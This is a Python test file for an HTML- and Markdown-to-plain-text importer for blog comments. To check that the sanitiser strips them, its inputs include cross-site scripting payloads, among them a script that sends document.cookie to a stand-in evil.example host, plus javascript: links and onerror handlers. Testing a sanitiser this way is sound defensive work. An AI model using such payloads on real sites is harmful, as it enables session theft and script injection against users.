"""Imported HTML and Markdown become the plain text a reader saw (G2)."""
from voxpop.transfer.plaintext import html_to_text, line_to_text, markdown_to_text, storable


def test_paragraphs_and_breaks_become_line_breaks():
    """<p> is a blank line, <br> a line break."""
    assert html_to_text("<p>One<br>two</p><p>Three</p>") == "One\ntwo\n\nThree"


def test_entities_are_decoded_once():
    """Entities become characters; escaped markup stays visible as text, not as a tag."""
    assert html_to_text("<p>Fish &amp; chips &lt;b&gt;cheap&lt;/b&gt; &#8212; &eacute;t&eacute;</p>") == \
        "Fish & chips <b>cheap</b> — été"


def test_link_keeps_its_text_and_url():
    """A link is its visible text followed by the URL in parentheses."""
    assert html_to_text('<p>See <a href="https://ferry.example/times" rel="nofollow">the timetable</a>.</p>') == \
        "See the timetable (https://ferry.example/times)."


def test_link_showing_its_own_url_is_not_repeated():
    """When the visible text is the URL already (or Disqus's shortened form of it), the URL appears once."""
    assert html_to_text('<a href="https://ferry.example/">ferry.example</a>') == "ferry.example"
    assert html_to_text('<a href="https://ferry.example/times/2024/summer" title="x">ferry.example/times/...</a>') \
        == "https://ferry.example/times/2024/summer"


def test_script_links_are_not_kept():
    """javascript: and data: links keep their text only."""
    assert html_to_text('<a href="javascript:alert(1)">click</a> <a href="data:text/html,x">me</a>') == "click me"


def test_script_and_style_content_is_dropped():
    """What a browser never showed as text (scripts, styles, frames) is not imported as text."""
    html = '<p>Hello</p><script>document.location="https://evil.example/"+document.cookie</script>' \
           '<style>p{display:none}</style><iframe src="https://evil.example/">frame text</iframe><p>world</p>'
    assert html_to_text(html) == "Hello\n\nworld"


def test_no_tag_survives():
    """Whatever the markup, no tag is left in the text."""
    html = '<div onclick="x()"><b><i>bold</i></b> <img src=x onerror=alert(1)> <svg><script>1</script></svg>' \
           '<object data="x"></object><form><input value="v"></form></div>'
    text = html_to_text(html)
    assert text == "bold"
    assert "<" not in text and ">" not in text


def test_deeply_nested_tags_cost_nothing():
    """Hostile nesting thousands of tags deep is read without recursion or a tree."""
    assert html_to_text("<b>" * 50000 + "deep" + "</b>" * 50000) == "deep"
    assert html_to_text("<div>" * 20000 + "x") == "x"


def test_lists_keep_one_item_per_line():
    """List items stay on their own lines."""
    assert html_to_text("<ul><li>ferries</li><li>buses</li></ul>") == "- ferries\n- buses"


def test_wordpress_line_breaks_are_kept():
    """WordPress comments are typed text: their own line breaks are the reader's."""
    assert html_to_text("First line\nsecond line\n\nNew paragraph with <em>stress</em>", newlines=True) == \
        "First line\nsecond line\n\nNew paragraph with stress"


def test_html_whitespace_collapses_like_a_browser():
    """In real HTML (Disqus), source line breaks and runs of spaces are one space."""
    assert html_to_text("<p>one\n   two</p>") == "one two"


def test_text_that_only_looks_like_markup_is_kept():
    """A lone "<" is text."""
    assert html_to_text("3 < 4 and 5 > 2, I <3 ferries") == "3 < 4 and 5 > 2, I <3 ferries"


def test_markdown_markup_is_removed():
    """Isso's Markdown: emphasis, links, quotes and lists become plain text; line breaks stay."""
    source = "**Great** piece, see [the map](https://map.example)\nsecond line\n\n> quoted\n\n- a\n- b"
    assert markdown_to_text(source) == \
        "Great piece, see the map (https://map.example)\nsecond line\n\nquoted\n\n- a\n- b"


def test_markdown_with_raw_html_loses_the_html():
    """Raw HTML inside Markdown is removed like any other."""
    assert markdown_to_text("hi <script>alert(1)</script><b>there</b> `a < b`") == "hi there a < b"


def test_names_are_one_line():
    """A display name or title is one line of text."""
    assert line_to_text(" Tom &amp; <i>Jerry</i>\n ") == "Tom & Jerry"


def test_control_characters_are_removed():
    """Characters Voxpop never stores are dropped from imported text."""
    assert storable("a\x00b\x07c\ufffed\n") == "abcd"
